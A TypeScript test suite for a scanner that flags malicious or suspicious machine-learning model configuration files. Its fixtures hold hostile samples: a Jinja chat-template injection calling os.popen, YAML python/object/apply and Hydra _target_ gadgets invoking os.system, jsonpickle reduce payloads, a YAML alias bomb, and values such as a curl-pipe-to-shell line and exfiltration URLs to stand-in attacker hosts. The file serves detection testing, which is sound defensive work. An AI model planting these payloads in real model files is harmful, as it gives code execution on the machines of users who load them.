import { bytesSource } from "@castellan/formats";
import { describe, expect, it } from "vitest";
import { inspectBytes } from "../testing/inspect-bytes.ts";
import { isDotted, judgeCallable } from "./callables.ts";
import { jsonConfig } from "./index.ts";
import { isExponential } from "./regular-expressions.ts";
import { suspiciousValue } from "./suspicious-values.ts";

const encoder = new TextEncoder();
const HOSTILE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
const HONEST = "{% for message in messages %}{{ message['role'] }}{% endfor %}";
const LLAMA = {
  architectures: ["LlamaForCausalLM"],
  model_type: "llama",
  vocab_size: 32,
  torch_dtype: "float16",
  max_position_embeddings: 4096,
};
const inspect = (content: unknown, name = "config.json", siblings: readonly string[] = []) =>
  inspectBytes(encoder.encode(typeof content === "string" ? content : JSON.stringify(content)), name, {
    sibling: (path) => (siblings.includes(path) ? bytesSource(new Uint8Array(1)) : undefined),
  });
const verdictOf = async (content: unknown, name?: string) => (await inspect(content, name)).verdict;
const ruleOf = async (content: unknown, name?: string) => (await inspect(content, name)).findings[0]?.rule;

describe("configurations in JSON", () => {
  it("tell the facts of the model", async () => {
    expect(await inspect({ ...LLAMA, quantization_config: { quant_method: "gptq" }, _name_or_path: "org/base" })).toMatchObject({
      formats: ["model-config"],
      verdict: "benign",
      findings: [],
      facts: {
        architecture: "LlamaForCausalLM",
        modelType: "llama",
        vocabularySize: 32,
        dtype: "float16",
        contextLength: 4096,
        quantisation: "gptq",
        name: "org/base",
      },
    });
  });
  it.each<[string, unknown]>([
    ["chat_template", { chat_template: HOSTILE }],
    [
      "named templates",
      {
        chat_template: [
          { name: "default", template: HONEST },
          { name: "tool", template: HOSTILE },
        ],
      },
    ],
    ["a map of templates", { chat_template: { default: HONEST, tool: HOSTILE } }],
    ["the second of two keys", `{"chat_template":"x","chat_template":${JSON.stringify(HOSTILE)}}`],
    ["an escaped key", `{"chat\\u005ftemplate":${JSON.stringify(HOSTILE)}}`],
    ["a byte order mark", `\ufeff{"chat_template":${JSON.stringify(HOSTILE)}}`],
  ])("are malicious by a template: %s", async (_, content) => {
    for (const name of ["tokenizer_config.json", "chat_template.json", "processor_config.json", ""])
      expect(await verdictOf(content, name)).toBe("malicious");
  });
  it("are read in UTF-16", async () => {
    const text = JSON.stringify({ chat_template: HOSTILE });
    for (const mark of [true, false]) {
      const bytes = new Uint8Array(Buffer.from((mark ? "\ufeff" : "") + text, "utf16le"));
      expect((await inspectBytes(bytes, "tokenizer_config.json")).verdict).toBe("malicious");
    }
  });
  it("are suspicious by a template that no loader reads", async () => {
    expect(await verdictOf({ bos_token: "<s>", extra: { chat_template: HOSTILE } }, "special_tokens_map.json")).toBe("suspicious");
  });
  it.each<[string, unknown, string]>([
    ["auto_map", { ...LLAMA, auto_map: { AutoModel: "modeling_x.Model" } }, "config.json"],
    ["auto_map into a repository", { ...LLAMA, auto_map: { AutoModel: "org/repo--modeling_x.Model" } }, "config.json"],
    ["auto_map in a list", { auto_map: { AutoTokenizer: [null, "tokenization_x.Tokenizer"] } }, "tokenizer_config.json"],
    ["auto_map far below", { ...LLAMA, text_config: { auto_map: { AutoModel: "x.Y" } } }, "config.json"],
    ["custom_pipelines", { ...LLAMA, custom_pipelines: { x: { impl: "pipe.Pipe" } } }, "config.json"],
    ["trust_remote_code", { ...LLAMA, trust_remote_code: true }, "config.json"],
    ["custom_generate", { custom_generate: "org/repo" }, "generation_config.json"],
    ["a pipeline of its own", { _class_name: ["pipeline_x", "Pipe"], _diffusers_version: "0.30" }, "model_index.json"],
    ["a part of its own", { _class_name: "Pipe", unet: ["unet_x", "UNet"] }, "model_index.json"],
    ["a module of its own", [{ idx: 0, name: "0", path: "", type: "custom_st.Transformer" }], "modules.json"],
    ["a kernel", { ...LLAMA, _attn_implementation: "someone/flash-kernel" }, "config.json"],
    ["a core to import", { peft_type: "LORA", megatron_core: "evil.core" }, "adapter_config.json"],
    ["a library to import", { peft_type: "LORA", auto_mapping: { base_model_class: "x", parent_library: "os" } }, "adapter_config.json"],
  ])("are suspicious by code of the model: %s", async (_, content, name) => {
    expect(await inspect(content, name)).toMatchObject({ verdict: "suspicious", findings: [{ rule: "remote-code" }] });
  });
  it("say whether the code is there", async () => {
    const config = { ...LLAMA, auto_map: { AutoModel: "modeling_x.Model" } };
    expect((await inspect(config, "config.json", ["modeling_x.py"])).findings[0]?.message).toMatch(/in "modeling_x.py"\.$/);
    expect((await inspect(config)).findings[0]?.message).toMatch(/not here/);
  });
  it.each<[string, unknown, string]>([
    [
      "diffusers",
      {
        _class_name: "StableDiffusionPipeline",
        unet: ["diffusers", "UNet2DConditionModel"],
        safety_checker: [null, null],
        text_encoder: ["transformers", "CLIPTextModel"],
        feature: ["stable_diffusion", "X"],
      },
      "model_index.json",
    ],
    ["sentence-transformers", [{ idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" }], "modules.json"],
    ["an adapter", { peft_type: "LORA", auto_mapping: null, base_model_name_or_path: "org/base" }, "adapter_config.json"],
    [
      "an adapter of transformers",
      { peft_type: "LORA", auto_mapping: { base_model_class: "Bert", parent_library: "transformers.models.bert" } },
      "adapter_config.json",
    ],
    [
      "an activation",
      {
        in_features: 4,
        activation_function: "torch.nn.modules.activation.Tanh",
        _attn_implementation: "sdpa",
        megatron_core: "megatron.core",
      },
      "config.json",
    ],
    ["an activation by its name", { ...LLAMA, activation_function: "gelu_new", target: "production" }, "config.json"],
    ["no remote code", { ...LLAMA, trust_remote_code: false, custom_generate: "" }, "config.json"],
    [
      "special tokens",
      { pad_token: "<pad>", bos_token: { content: "<s>" }, tokenizer_class: "X", model_max_length: 1e30 },
      "tokenizer_config.json",
    ],
    [
      "links",
      {
        ...LLAMA,
        license_link: "http://www.apache.org/licenses/LICENSE-2.0",
        homepage: "http://some.lab.edu/model",
        url: "https://huggingface.co/x",
      },
      "config.json",
    ],
    [
      "words of the vocabulary",
      {
        model: { vocab: { "os.system": 1, "<script>": 2, "rm -rf /": 3 }, merges: ["import os"] },
        added_tokens: [{ content: "__import__" }],
      },
      "tokenizer.json",
    ],
    ["numbers of Python", '{"model_type":"mamba","time_step_limit":[0.0,Infinity]}', "config.json"],
    ["an index", { metadata: { total_size: 8 }, weight_map: { a: "model-00001-of-00002.safetensors" } }, "model.safetensors.index.json"],
    ["other JSON", { password: "correct horse battery", command: "rm -rf build", webhook_url: "http://a.example.org/x" }, "package.json"],
  ])("are benign: %s", async (_, content, name) => {
    const result = await inspect(content, name);
    expect(result.findings.filter(({ verdict }) => verdict !== "benign")).toEqual([]);
    expect(result.verdict).toBe("benign");
  });
  it.each<[string, unknown, string]>([
    ["_target_", { model: { _target_: "os.system", command: "id" } }, "config.json"],
    ["_target_ in a list", { a: [{ b: { _target_: "subprocess.Popen" } }] }, "x.json"],
    ["jsonpickle", { "py/reduce": [{ "py/function": "os.system" }, { "py/tuple": ["id"] }] }, "x.json"],
    ["jsonpickle's objects", { a: { "py/object": "subprocess.Popen" } }, "x.json"],
    ["jsonpickle's repr", { a: { "py/repr": "os/os.getcwd()" } }, "x.json"],
    ["an activation", { in_features: 4, activation_function: "os.system" }, "config.json"],
    ["a target alone", { target: "os.system" }, "x.json"],
    ["class_path", { model: { class_path: "os.system", init_args: {} } }, "x.json"],
  ])("are malicious by what is called: %s", async (_, content, name) => expect(await ruleOf(content, name)).toBe("config-code-execution"));
  it.each<[string, unknown, string, string]>([
    ["a shard elsewhere", { weight_map: { a: "../../x.bin" } }, "model.safetensors.index.json", "shard-outside"],
    [
      "a pattern without end",
      { model: {}, pre_tokenizer: { pattern: { Regex: "(a+)+$" } } },
      "tokenizer.json",
      "config-exponential-pattern",
    ],
    ["native code", { ...LLAMA, quantization_config: { kernel_path: "/tmp/x.so" } }, "config.json", "config-suspicious-value"],
    ["a credential", { ...LLAMA, api_key: "sk-1234567890abcdef" }, "config.json", "config-suspicious-value"],
    ["a command", { name: "m", debug_command: "rm -rf /" }, "my_config.json", "config-suspicious-value"],
    ["a script", { ...LLAMA, note: "<script>alert(1)</script>" }, "config.json", "alarming-metadata"],
    ["a cut", '{"architectures":["LlamaForCausalLM"],"model_', "config.json", "malformed"],
    ["no JSON", "architectures: x", "config.json", "malformed"],
    ["a key twice", '{"model_type":"a","model_type":"b"}', "config.json", "duplicate-key"],
    ["nesting without end", "[".repeat(80_000), "config.json", "not-examined"],
    ["nesting in any JSON", `${"[".repeat(80_000)}${"]".repeat(80_000)}`, "x.json", "not-examined"],
  ])("are suspicious by %s", async (_, content, name, rule) => {
    expect(await inspect(content, name)).toMatchObject({ verdict: "suspicious", findings: [{ rule }] });
  });
  it("are no configuration where they are something else", async () => {
    for (const [content, name] of [
      ["[1, 2, 3]", "data.json"],
      ["{}{}", "lines.jsonl"],
      ["[section]\na=1", "x.ini"],
      ["{% if a %}", "x.txt"],
      [JSON.stringify({ a: 1 }), "x.json"],
    ] as const)
      expect(await inspect(content, name)).toMatchObject({ formats: [], verdict: "benign", findings: [] });
  });
});

describe("files that other readers know", () => {
  it("are left to them, but for what loaders would run", async () => {
    const own = { interpreters: [jsonConfig] };
    const judged = async (content: unknown) => inspectBytes(encoder.encode(JSON.stringify(content)), "config.json", own);
    expect(await judged({ class_name: "Sequential", config: { note: "<script>alert(1)</script>" } })).toMatchObject({
      formats: [],
      findings: [],
    });
    expect((await judged({ learner: {}, chat_template: HOSTILE })).verdict).toBe("malicious");
    expect((await judged({ learner: {}, model: { _target_: "os.system" } })).verdict).toBe("malicious");
  });
});

describe("configurations in YAML", () => {
  it.each([
    "x: !!python/object/apply:os.system ['id']",
    "x: !!python/object/new:subprocess.Popen [['id']]",
    "x: !!python/name:os.system",
    "x: !!python/module:antigravity",
    "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
    "x: !!python/object/apply:os%2Esystem ['id']",
    "%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system ['id']",
    "%TAG !p! tag:yaml.org,2002:python/object/\n---\nx: !p!apply:os.system ['id']",
    "a: 1\n---\nx: !!python/object/apply:posix.system ['id']",
    "? !!python/object/apply:os.system ['id']\n: x",
    "!!python/object/apply:os.system ['id']",
    "- - - !!python/object/apply:os.system ['id']",
    "x: [!!python/object/apply:os.system ['id']",
    "run:\n  _target_: os.system\n",
    'run:\n  "\\x5ftarget\\x5f": os.system\n',
    "base: &b\n  _target_: os.system\nrun:\n  <<: *b\n",
    "m: os\nf: system\nrun:\n  _target_: ${m}.${f}\n",
    "run: {_target_: builtins.eval, _args_: ['1']}",
    "run:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "run:\n  _target_: torch.load\n  f: x.pt\n",
    "model:\n  target: os.system\n  params:\n    command: id\n",
    "a: &a [x, x, x, x, x, x, x, x, x]\n" +
      [..."bcdefghijk"].map((key, at) => `${key}: &${key} [${`*${"abcdefghij"[at]}, `.repeat(8)}*${"abcdefghij"[at]}]`).join("\n"),
  ])("are malicious: %j", async (content) => expect(await verdictOf(content, "config.yaml")).toBe("malicious"));
  it("need no name", async () => {
    for (const content of ["x: !!python/object/apply:os.system ['id']", "run:\n  _target_: os.system\n"])
      expect(await verdictOf(content, "")).toBe("malicious");
  });
  it.each([
    "model:\n  _target_: mycompany.models.Net\n",
    "model:\n  _target_: ${oc.env:X}\n",
    "x: !!python/object:mypackage.Thing {}\n",
    "x: !!python/object/apply:unheard.of []\n",
    "model:\n  trust_remote_code: true\n",
    "model:\n  target: mycompany.Net\n  params: {}\n",
    "x: [ _target_: torch.nn.Linear",
  ])("are suspicious: %j", async (content) => expect(await verdictOf(content, "config.yaml")).toBe("suspicious"));
  it.each([
    "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n",
    "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    timesteps: 1000\n",
    "x: !!python/tuple [1, 2]\ny: !!python/object/apply:collections.OrderedDict [[]]\n",
    "defaults: &d\n  lr: 0.1\ntrain:\n  <<: *d\n",
    "# never write !!python/object/apply:os.system\na: 1\n",
    "note: 'see !!python/object/apply:os.system'\n",
    "target: production\nservices:\n  web:\n    command: bash -c 'rm -rf /tmp/x'\n    environment:\n      PASSWORD: hunter2hunter2\n",
    "a: {{ value }}\n",
  ])("are benign: %j", async (content) => expect(await inspect(content, "config.yaml")).toMatchObject({ verdict: "benign", findings: [] }));
});

describe("judgeCallable", () => {
  it.each<[string, string]>([
    ["os.system", "malicious"],
    ["os.path.join.__globals__", "malicious"],
    ["subprocess.Popen.communicate", "malicious"],
    ["builtins.exec", "malicious"],
    ["exec", "malicious"],
    ["importlib.import_module", "malicious"],
    ["pip.main", "malicious"],
    ["requests.get", "malicious"],
    ["torch.hub.load", "malicious"],
    ["pandas.read_pickle", "malicious"],
    ["pickle.loads", "malicious"],
    ["torch.nn.Linear", "benign"],
    ["torch:nn.Linear", "benign"],
    ["transformers.AutoModel.from_pretrained", "benign"],
    ["nemo.collections.asr.models.EncDecCTCModel", "benign"],
    ["collections.OrderedDict", "benign"],
    ["int", "benign"],
    ["mycompany.models.Net", "suspicious"],
    ["torchevil.Net", "suspicious"],
  ])("%s is %s", (name, verdict) => expect(judgeCallable(name).verdict).toBe(verdict));
  it("knows paths of names", () => {
    for (const text of ["a.b", "a", "a:b.C", "_x.y"]) expect(isDotted(text)).toBe(true);
    for (const text of ["", "a b", "a..b", "1a", "a/b", "a.b()", "x".repeat(500)]) expect(isDotted(text)).toBe(false);
  });
});

describe("isExponential", () => {
  it.each(["(a+)+$", "(a*)*", "([a-z]+)*x", "(\\w+\\s?)+$", "(?:a|b+)+", "((a+))+", "(?:(?:x+)y?)+", "(a+){2,}", "(.*)*"])(
    "%s",
    (pattern) => expect(isExponential(pattern)).toBe(true),
  );
  // Patterns of GPT-2, Llama 3, o200k, DeepSeek, and others.
  it.each([
    "'s|'t|'re|'ve|'m|'ll|'d| ?\\p{L}+| ?\\p{N}+| ?[^\\s\\p{L}\\p{N}]+|\\s+(?!\\S)|\\s+",
    "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+",
    "[^\\r\\n\\p{L}\\p{N}]?[\\p{Lu}\\p{Lt}\\p{Lm}\\p{Lo}\\p{M}]*[\\p{Ll}\\p{Lm}\\p{Lo}\\p{M}]+(?i:'s|'t|'re|'ve|'m|'ll|'d)?|\\p{N}{1,3}",
    "\\p{N}{1,3}(?=(?:\\p{N}{3})*(?!\\p{N}))|(?=(\\d{3})+(?!\\d))",
    "(a+)?b",
    "(ab+)+",
    "(a{1,3})+",
    "(\\d+,)*\\d+",
    "(a|b)*",
    "",
    "(",
    ")",
    "[",
    "\\",
    "(a++)+b|[[:alpha:]]+",
  ])("not %s", (pattern) => expect(isExponential(pattern)).toBe(false));
  it("takes linear time", () => {
    for (const unit of ["(", ")", "[", "a+", "(a+)", "\\p{", "{1", "(?:", "|"]) {
      const start = performance.now();
      isExponential(unit.repeat(5000));
      expect(performance.now() - start, unit).toBeLessThan(500);
    }
  });
});

describe("suspiciousValue", () => {
  it.each<[string, string]>([
    ["api_key", "sk-1234567890abcdef"],
    ["exfil_key", "SECRET_API_KEY_12345"],
    ["token", "hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"],
    ["remote_url", "http://suspicious-domain.com/exfiltrate"],
    ["api_endpoint", "http://attacker-c2.evil.com/data"],
    ["webhook", "http://203.0.113.9:8080/x"],
    ["post_install", "curl http://x.example.net/a | sh"],
    ["anything", "bash -c 'id'"],
    ["kernel", "/opt/lib/evil.so.1"],
    ["custom_ops_library", "evil.dll"],
    ["url", "https://x.org/exfil?d=1"],
  ])("%s: %s", (key, value) => expect(suspiciousValue(key, value)).toBeDefined());
  it.each<[string, string]>([
    ["api_key", "YOUR_API_KEY"],
    ["api_key", "${API_KEY}"],
    ["password", ""],
    ["pad_token", "<|endoftext|>"],
    ["access_token", "none"],
    ["endpoint", "http://localhost:8000/v1"],
    ["api_base", "https://api.openai.com/v1"],
    ["homepage", "http://some.university.edu/nlp"],
    ["license_link", "http://www.apache.org/licenses/LICENSE-2.0"],
    ["description", "Install it with pip, then run the script."],
    ["vocab_file", "vocab.txt"],
    ["tokenizer_file", "/root/.cache/huggingface/hub/tokenizer.json"],
    ["hidden_act", "silu"],
  ])("not %s: %s", (key, value) => expect(suspiciousValue(key, value)).toBeUndefined());
});

describe("what only speaks of configurations", () => {
  it("is no YAML where its name does not say so and no parser takes it", async () => {
    const code = 'const a = "!!python/object/apply:os.system";\nif (a) { b: { "c": [ } }\n';
    expect(await inspect(code, "tags.ts")).toMatchObject({ verdict: "benign" });
    expect(await inspect("# Notes\n\n_target_: is a key: of Hydra: [see\n", "README.md")).toMatchObject({ verdict: "benign" });
    expect(await verdictOf("a: [\n_target_: x: y\n", "broken.yaml")).toBe("suspicious");
    expect(await verdictOf("a: 1\n_target_: os.system\n", "notes.txt")).toBe("malicious");
  });
  it("leaves Hydra its own classes", () => {
    expect(judgeCallable("hydra._internal.core_plugins.basic_sweeper.BasicSweeper").verdict).toBe("benign");
    expect(judgeCallable("hydra._internal.core_plugins.basic_sweeper.os.system").verdict).toBe("malicious");
    expect(judgeCallable("hydra._internal.utils._locate").verdict).toBe("malicious");
  });
});
